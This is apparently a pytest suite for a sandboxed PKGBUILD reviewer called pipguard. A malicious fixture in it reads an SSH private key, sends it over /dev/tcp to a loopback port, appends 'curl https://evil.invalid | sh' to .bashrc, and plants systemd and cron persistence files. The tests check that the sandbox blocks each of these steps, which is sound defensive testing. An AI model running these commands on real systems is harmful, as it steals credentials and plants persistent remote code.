"""``pipguard pkgbuild``: PKGBUILDs written here, reviewed with the real makepkg in the sandbox.

Each test runs the CLI (a real process: makepkg, bash, gcc, fakeroot under the sandbox) and asserts
the report's entries. Attacks are harmless: canaries in a fake HOME, a loopback listener started
here, persistence files with unique names that must not exist afterwards.
"""
from __future__ import annotations

import functools
import hashlib
import http.server
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import threading

import pytest

import support
from pipguard.pkgbuild import srcinfo
from support.pkgbuilds import review

PY = sys.executable
HELLO_C = '#include <stdio.h>\nint main(void) { puts("hello from pkgbuild"); return 0; }\n'




def _phase(data, name, step=""):
    found = [p for p in data["phases"] if p["name"] == name and p["step"] == step]
    assert found, f"no phase {name} {step}: {[(p['name'], p['step']) for p in data['phases']]}"
    return found[0]


def _blocked(phase):
    return [e for e in phase["report"]["events"] if e["action"] == "blocked"]


HELLO = """\
pkgname=pg-hello
pkgver=1.0
pkgrel=1
pkgdesc="pipguard test: a clean C hello-world"
arch=('any')
license=('MIT')
source=('hello.c')
sha256sums=('{sha}')
install=hello.install
build() {{ cc -O1 -o hello "$srcdir/hello.c"; }}
check() {{ ./hello | grep -q 'hello from pkgbuild'; }}
package() {{
  install -Dm755 hello "$pkgdir/usr/bin/pg-hello"
  install -Dm644 hello.c "$pkgdir/usr/share/doc/pg-hello/hello.c"
  ln -s pg-hello "$pkgdir/usr/bin/pg-hi"
}}
"""
HELLO_INSTALL = 'post_install() {\n  echo "pg-hello $1 installed"\n}\n'


def _applied_everywhere(data, backend):
    """Every phase ran in the backend the test insisted on (``ns`` is in the applied layers)."""
    for phase in data["phases"]:
        applied = phase["report"]["isolation"]["applied"]
        assert ("ns" in applied) == backend.ns, (phase["name"], applied)


def test_clean_hello_world(makepkg, pkgdir, fake_home, backend):
    sha = hashlib.sha256(HELLO_C.encode()).hexdigest()
    d = pkgdir(HELLO.format(sha=sha), {"hello.c": HELLO_C, "hello.install": HELLO_INSTALL})
    status, data, err = review(d, "--isolation", backend.isolation, env=fake_home.env())
    assert status == 0, err
    _applied_everywhere(data, backend)
    assert data["status"] == "clean" and data["verdict"] == "clean"
    assert [(p["name"], p["step"]) for p in data["phases"]] == [
        ("srcinfo", ""), ("sources", ""), ("build", ""), ("install-scripts", "post_install")]
    assert all(p["verdict"] == "clean" and p["exit_code"] == 0 for p in data["phases"])
    assert data["pkgbuild"]["pkgbase"] == "pg-hello" and data["pkgbuild"]["version"] == "1.0-1"
    assert data["pkgbuild"]["sources"][0]["sums"] == {"sha256sums": sha}
    assert data["pkgbuild"]["allowed_hosts"] == []  # local sources only: no network at all
    contents = {f["path"]: f for f in data["contents"]}
    assert set(contents) == {"/usr/bin/pg-hello", "/usr/bin/pg-hi", "/usr/share/doc/pg-hello/hello.c"}
    assert contents["/usr/bin/pg-hello"]["mode"] == "0755" and contents["/usr/bin/pg-hello"]["kind"] == "file"
    assert contents["/usr/share/doc/pg-hello/hello.c"]["sha256"] == sha
    assert contents["/usr/share/doc/pg-hello/hello.c"]["mode"] == "0644"
    assert contents["/usr/bin/pg-hi"]["kind"] == "symlink" and contents["/usr/bin/pg-hi"]["target"] == "pg-hello"
    assert len(contents["/usr/bin/pg-hello"]["sha256"]) == 64
    # makepkg and the compiler ran in the sandbox, as the build user, with their argv recorded
    build = _phase(data, "build")
    argv0 = {os.path.basename(p["argv"][0]) for p in build["report"]["processes"] if p["argv"]}
    assert {"makepkg", "fakeroot"} <= argv0 or "makepkg" in argv0
    assert any("cc" in p["argv"][:1] for p in build["report"]["processes"])
    assert data["pkgbuild"]["build_user"]["uid"] != 0
    for phase in data["phases"]:
        assert phase["written_outside"] == [] and phase["blocked_writes"] == []
    assert "observed clean in this execution is evidence, not proof" in err
    assert "/usr/bin/pg-hello" in err


SETUID = """\
pkgname=pg-setuid
pkgver=1.0
pkgrel=1
arch=('any')
license=('MIT')
package() {
  printf '#!/bin/sh\\necho hi\\n' > tool
  install -Dm4755 tool "$pkgdir/usr/bin/pg-setuid"
  install -Dm2755 tool "$pkgdir/usr/bin/pg-setgid"
  # an ELF file: makepkg's strip rewrites it, which clears the bit on disk (not in the archive)
  install -Dm4755 /bin/true "$pkgdir/usr/bin/pg-setuid-elf"
  install -Dm755 tool "$pkgdir/usr/bin/pg-daemon-tool"
  chown 1:1 "$pkgdir/usr/bin/pg-daemon-tool"  # fakeroot's: only the archive keeps it
}
"""


def test_a_setuid_program_in_the_package_is_shown_and_never_made_on_disk(makepkg, pkgdir, fake_home):
    """``package()`` installing a setuid program (sudo, ping did): the sandbox refuses the setuid
    chmod on disk, as for every build (a setuid program of the build user in the review's dirs
    would let any local user become it: review of 2026-12-01), and reports it; fakeroot records
    the mode anyway, so the contents — read from the package archive, fakeroot's view, which
    pacman installs — show it, with its owner, also for a stripped ELF file."""
    status, data, err = review(pkgdir(SETUID), env=fake_home.env())
    assert status == 1, err
    build = _phase(data, "build")
    assert {e["target"] for e in _blocked(build) if e["kind"] == "syscall"} <= {"chmod", "fchmodat", "fchmodat2"}
    assert any(e["rule"] == "syscall-denied" for e in _blocked(build)), _blocked(build)
    modes = {f["path"]: f["mode"] for f in data["contents"]}
    owners = {f["path"]: f["owner"] for f in data["contents"]}
    assert modes["/usr/bin/pg-setuid"] == "4755", modes
    assert modes["/usr/bin/pg-setgid"] == "2755", modes
    assert modes["/usr/bin/pg-setuid-elf"] == "4755", modes
    assert owners["/usr/bin/pg-setuid"] == "root:root", owners
    assert owners["/usr/bin/pg-daemon-tool"] in ("daemon:daemon", "1:1"), owners
    assert [p["name"] for p in data["phases"] if p["verdict"] == "blocked"] == ["build"]


EVIL = """\
pkgname=pg-evil
pkgver=2
pkgrel=1
arch=('any')
license=('MIT')
install=evil.install
build() {{
  cat ~/.ssh/id_rsa > stolen 2>/dev/null || true
  cat {home}/.ssh/id_rsa >> stolen 2>/dev/null || true
  (exec 3<>/dev/tcp/127.0.0.1/{port} && cat stolen >&3) 2>/dev/null || true
  echo 'curl https://evil.invalid | sh' >> ~/.bashrc 2>/dev/null || true
  echo 'curl https://evil.invalid | sh' >> {home}/.bashrc 2>/dev/null || true
}}
package() {{ install -Dm644 stolen "$pkgdir/usr/share/pg-evil/data"; }}
"""
EVIL_INSTALL = """\
post_install() {
  mkdir -p /etc/systemd/system
  printf '[Service]\\nExecStart=/bin/true\\n' > /etc/systemd/system/pipguard-test-evil.service
  echo '* * * * * root /bin/true' > /etc/cron.d/pipguard-test-evil
  mkdir -p ~/.config/systemd/user
  printf '[Service]\\nExecStart=/bin/true\\n' > ~/.config/systemd/user/pipguard-test-evil.service
  true
}
"""
PLANTED = ("/etc/systemd/system/pipguard-test-evil.service", "/etc/cron.d/pipguard-test-evil")


def test_malicious_pkgbuild_is_blocked_and_reported(makepkg, pkgdir, fake_home, loopback_tcp, backend):
    d = pkgdir(EVIL.format(home=fake_home.path, port=loopback_tcp.port), {"evil.install": EVIL_INSTALL})
    try:
        status, data, err = review(d, "--isolation", backend.isolation, env=fake_home.env())
        assert status == 1, err
        _applied_everywhere(data, backend)
        assert data["status"] == "blocked" and data["verdict"] == "blocked"
        build = _phase(data, "build")
        assert build["verdict"] == "blocked"
        blocked = _blocked(build)
        reads = {(e["target"], e["rule"]) for e in blocked if e["kind"] == "file-read"}
        # under ns the real home's path is a decoy tmpfs: the read opens a decoy, reported so
        assert (str(fake_home.secrets["id_rsa"]), "decoy-read" if backend.ns else "secret-read") in reads, reads
        assert any(t.endswith("/home/.ssh/id_rsa") for t, _ in reads), reads  # the decoy ~ too
        net = [e for e in blocked if e["kind"] == "network"]
        assert any(e["target"] == f"127.0.0.1:{loopback_tcp.port}" for e in net), net
        writes = {e["target"]: e["rule"] for e in blocked if e["kind"] == "file-write"}
        assert writes.get(str(fake_home.bashrc)) == "persistence", writes
        assert any(t.endswith("/home/.bashrc") and r == "persistence" for t, r in writes.items()), writes
        assert str(fake_home.bashrc) in build["blocked_writes"]
        # the install scriptlet's persistence attempts
        post = _phase(data, "install-scripts", "post_install")
        assert post["verdict"] == "blocked" and post["package"] == "pg-evil"
        for path in PLANTED:
            assert path in post["blocked_writes"], post["blocked_writes"]
        assert any(t.endswith("/.config/systemd/user/pipguard-test-evil.service")
                   for t in post["blocked_writes"]), post["blocked_writes"]
        # ... and all of it failed
        for path in PLANTED:
            assert not os.path.exists(path)
        assert fake_home.bashrc.read_text() == fake_home.bashrc_original
        assert loopback_tcp.received == []
        stolen = [f for f in data["contents"] if f["path"] == "/usr/share/pg-evil/data"]
        # nothing worth stealing reached the package: nothing (plain), or the decoys' text (ns)
        real = fake_home.secrets["id_rsa"].read_bytes()
        assert stolen and stolen[0]["sha256"] not in {hashlib.sha256(real).hexdigest(),
                                                      hashlib.sha256(real * 2).hexdigest()}
        assert (stolen[0]["size"] > 0) == backend.ns, stolen
        assert "Blocked" in err and "[build]" in err
    finally:
        for path in PLANTED:
            if os.path.exists(path):
                os.unlink(path)


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args):
        pass


@pytest.fixture
def tarball_server(tmp_path):
    """An HTTP server on 127.0.0.1 serving ``hello-1.0.tar.gz`` (a C source tree)."""
    root = tmp_path / "www"
    root.mkdir()
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        data = HELLO_C.encode()
        info = tarfile.TarInfo("hello-1.0/hello.c")
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    (root / "hello-1.0.tar.gz").write_bytes(buf.getvalue())
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0),
                                             functools.partial(_Quiet, directory=str(root)))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], hashlib.sha256(buf.getvalue()).hexdigest()
    finally:
        server.shutdown()
        server.server_close()


DOWNLOAD = """\
pkgname=pg-fetch
pkgver=1.0
pkgrel=1
arch=('any')
license=('MIT')
source=("http://127.0.0.1:{port}/hello-$pkgver.tar.gz")
sha256sums=('{sha}')
build() {{ cd "hello-$pkgver" && cc -o hello hello.c; }}
package() {{ install -Dm755 "hello-$pkgver/hello" "$pkgdir/usr/bin/pg-fetch"; }}
"""


def test_download_host_allowed_and_recorded(makepkg, pkgdir, fake_home, tarball_server, backend):
    port, sha = tarball_server
    d = pkgdir(DOWNLOAD.format(port=port, sha=sha))
    # named by the source URL, but loopback: not allowed without --allow-host
    status, data, err = review(d, "--isolation", backend.isolation, env=fake_home.env())
    assert status == 1, err
    assert data["pkgbuild"]["hosts_needing_allow"] == [f"127.0.0.1:{port}"]
    assert data["pkgbuild"]["allowed_hosts"] == []
    refused = [n for n in _phase(data, "sources")["report"]["network"] if n["port"] == port]
    assert refused and all(n["action"] == "blocked" for n in refused), refused
    assert not any(p["name"] == "build" for p in data["phases"])
    assert not data["contents"]

    status, data, err = review(d, "--allow-host", f"127.0.0.1:{port}", "--isolation", backend.isolation,
                               env=fake_home.env())
    assert status == 0, err
    _applied_everywhere(data, backend)
    assert data["pkgbuild"]["allowed_hosts"] == [f"127.0.0.1:{port}"]
    assert data["pkgbuild"]["hosts_needing_allow"] == []
    sources = _phase(data, "sources")
    net = sources["report"]["network"]
    assert any(n["host"] == "127.0.0.1" and n["port"] == port and n["action"] == "allowed" for n in net), net
    assert not any(n["action"] == "allowed" for n in _phase(data, "build")["report"]["network"])
    assert [f["path"] for f in data["contents"]] == ["/usr/bin/pg-fetch"]
    assert data["pkgbuild"]["checksum_mismatches"] == []


def test_checksum_mismatch_is_an_error_and_nothing_is_built(makepkg, pkgdir, fake_home):
    wrong = "0" * 64
    d = pkgdir(HELLO.format(sha=wrong), {"hello.c": HELLO_C, "hello.install": HELLO_INSTALL})
    status, data, err = review(d, env=fake_home.env())
    assert status == 2, err
    assert data["status"] == "error" and data["verdict"] == "error"
    assert [p["name"] for p in data["phases"]] == ["srcinfo", "sources"]
    assert _phase(data, "sources")["exit_code"] != 0  # makepkg refused too
    (mismatch,) = data["pkgbuild"]["checksum_mismatches"]
    assert mismatch["filename"] == "hello.c" and mismatch["expected"] == wrong
    assert mismatch["actual"] == hashlib.sha256(HELLO_C.encode()).hexdigest()
    assert data["contents"] == []
    assert "checksum mismatch: hello.c" in data["message"] and "nothing was built" in data["message"]


def test_a_link_in_the_pkgbuild_dir_opens_nothing_up(makepkg, pkgdir, fake_home, tmp_path):
    """pipguard copies the PKGBUILD's directory and makes the copy readable for the build user;
    a link in it to a private directory must stay a link: chmod through it opened the target to
    everyone, as root (review of 2026-12-01)."""
    victim = tmp_path / "private"
    victim.mkdir()
    os.chmod(victim, 0o700)
    d = pkgdir("pkgname=pg-link\n")  # no pkgver: the review stops at srcinfo, after the copy
    os.symlink(victim, d / "vlink")
    status, _data, err = review(d, env=fake_home.env())
    assert status == 2, err
    assert oct(victim.stat().st_mode & 0o777) == "0o700"


def test_without_makepkg_one_line_exit_2(tmp_path, fake_home):
    (tmp_path / "PKGBUILD").write_text("pkgname=x\n")
    bindir = tmp_path / "bin"
    bindir.mkdir()
    os.symlink(shutil.which("bash") or "/bin/bash", bindir / "bash")
    proc = subprocess.run([PY, "-m", "pipguard", "pkgbuild", str(tmp_path)],
                          env=fake_home.env({"PATH": str(bindir)}), stdout=subprocess.PIPE,
                          stderr=subprocess.PIPE, universal_newlines=True)
    assert proc.returncode == 2
    assert proc.stderr.count("\n") == 1, proc.stderr
    assert "makepkg is not installed" in proc.stderr and "pacman-package-manager" in proc.stderr


def test_audit_isolation_is_refused(tmp_path, fake_home):
    (tmp_path / "PKGBUILD").write_text("pkgname=x\n")
    proc = subprocess.run([PY, "-m", "pipguard", "pkgbuild", str(tmp_path), "--isolation", "audit"],
                          env=fake_home.env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                          universal_newlines=True)
    assert proc.returncode == 2 and proc.stderr.count("\n") == 1, proc.stderr


def test_process_substitution_works_in_the_sandbox(tmp_path, fake_home):
    """makepkg reads through ``<(...)`` (``/dev/fd/63``) everywhere: the supervisor must resolve
    /dev/fd in the sandboxed process's view, not its own (it refused it as another process's fd)."""
    support.need("seccomp")
    report = tmp_path / "r.json"
    proc = subprocess.run([PY, "-m", "pipguard", "run", "--report", str(report), "--", "bash", "-c",
                           "cat <(echo one); while read l; do echo $l; done < <(echo two)"],
                          cwd=tmp_path, env=fake_home.env(), stdout=subprocess.PIPE,
                          stderr=subprocess.PIPE, universal_newlines=True)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.split() == ["one", "two"]
    data = json.loads(report.read_text())
    # Once (CI, load ~10) this was "blocked" and never since in 31 tries: say what was blocked.
    assert data["verdict"] == "clean", (data["events"], data["processes"])
    assert "supervisor" in data["isolation"]["applied"]


def test_srcinfo_sources_and_scriptlets():
    text = ("pkgbase = p\n\tpkgver = 1\n\tpkgrel = 2\n\tepoch = 3\n\tinstall = p.install\n"
            "\tsource = a.tar.gz::https://example.org/dl/a-1.tar.gz\n\tsource = git+https://h.example/x/r.git#tag=v1\n"
            "\tsource = local.patch\n\tsource_x86_64 = http://169.254.169.254/latest/meta-data\n"
            "\tsha256sums = aa\n\tsha256sums = SKIP\n\tsha256sums = bb\n\tsha256sums_x86_64 = cc\n"
            "\npkgname = p\n\npkgname = p-doc\n\tinstall = doc.install\n")
    info = srcinfo.parse(text, "x86_64")
    assert info.version == "3:1-2" and info.pkgnames == ("p", "p-doc")
    assert info.install == {"p": "p.install", "p-doc": "doc.install"}
    a, r, patch, meta = info.sources
    assert (a.filename, a.host, a.port, a.sums) == ("a.tar.gz", "example.org", 443, {"sha256sums": "aa"})
    assert (r.filename, r.vcs, r.scheme, r.host) == ("r", "git", "https", "h.example")
    assert patch.local and patch.filename == "local.patch"
    allowed, needing = srcinfo.source_destinations(info.sources)
    assert [str(h) for h in allowed] == ["example.org:443", "h.example:443"]
    assert needing == ("169.254.169.254:80",)  # cloud metadata: never just because a PKGBUILD names it
    assert srcinfo.parse(text, "aarch64").sources[-1].filename == "local.patch"
    assert srcinfo.scriptlet_functions("post_upgrade() { :; }\npre_remove() { :; }") == (
        "post_upgrade", "pre_remove")
    with pytest.raises(srcinfo.SrcInfoError):
        srcinfo.parse("pkgbase = p\n\tsource = a\n\tsource = b\n\tmd5sums = x\n", "x86_64")


def test_archive_contents_are_what_pacman_would_install(tmp_path):
    """The contents come from the package archive: fakeroot's modes and owners as recorded there,
    links as links, the archive's own metadata and directories left out."""
    from pipguard.pkgbuild.result import archive_contents

    archive = tmp_path / "p-1-1-any.pkg.tar"
    body = b"#!/bin/sh\n"
    with tarfile.open(archive, "w") as tar:
        def add(name, kind=tarfile.REGTYPE, data=b"", mode=0o644, link="", owner=("root", 0)):
            info = tarfile.TarInfo(name)
            info.type, info.mode, info.linkname, info.size = kind, mode, link, len(data)
            info.uname = info.gname = owner[0]
            info.uid = info.gid = owner[1]
            tar.addfile(info, io.BytesIO(data) if data else None)
        add(".PKGINFO", data=b"# generated by makepkg\npkgname = p\npkgver = 1-1\n")
        add(".MTREE", data=b"\x1f\x8b")
        add("usr", tarfile.DIRTYPE, mode=0o755)
        add("usr/bin/tool", data=body, mode=0o4755)
        add("usr/bin/alias", tarfile.SYMTYPE, link="tool", mode=0o777)
        add("usr/bin/hard", tarfile.LNKTYPE, link="usr/bin/tool", mode=0o4755)
        add("var/lib/p/state", data=b"x", mode=0o600, owner=("daemon", 1))
    pkgname, entries = archive_contents(str(archive))
    assert pkgname == "p"
    got = {e.path: (e.package, e.kind, e.mode, e.owner, e.size, e.sha256, e.target) for e in entries}
    assert got == {
        "/usr/bin/tool": ("p", "file", "4755", "root:root", len(body), hashlib.sha256(body).hexdigest(), ""),
        "/usr/bin/alias": ("p", "symlink", "0777", "root:root", 0, "", "tool"),
        "/usr/bin/hard": ("p", "hardlink", "4755", "root:root", 0, "", "/usr/bin/tool"),
        "/var/lib/p/state": ("p", "file", "0600", "daemon:daemon", 1, hashlib.sha256(b"x").hexdigest(), ""),
    }, got
